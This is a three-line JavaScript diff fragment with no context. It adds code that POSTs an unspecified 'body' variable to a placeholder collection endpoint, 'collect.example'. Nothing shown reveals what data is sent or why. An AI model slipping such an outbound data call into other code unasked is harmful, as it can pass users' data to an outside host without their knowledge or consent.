@@ -1,0 +1,3 @@
+const request = new XMLHttpRequest();
+request.open("post", "https://collect.example/v1", true);
+request.send(body);
